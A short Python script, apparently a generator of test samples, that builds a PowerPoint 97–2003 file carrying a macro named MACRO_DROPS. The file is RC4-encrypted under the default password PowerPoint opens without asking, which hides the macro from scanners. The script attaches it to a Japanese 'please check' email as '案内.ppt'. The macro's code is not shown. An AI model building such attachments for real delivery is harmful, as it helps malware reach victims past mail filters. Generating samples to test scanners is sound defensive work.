# A macro in a PowerPoint file of 97 to 2003, behind the password that
# PowerPoint tries unasked.
from office import *
from parts import *

show = sealed_show([slide_text(b"inert"),
                    slide_storage(cfb(vba_project(MACRO_DROPS)))],
                   rc4_api("/01Hannes Ruescher/01"))
message = mail(join([text_part("ご確認ください。"), file_part("案内.ppt", show)]))
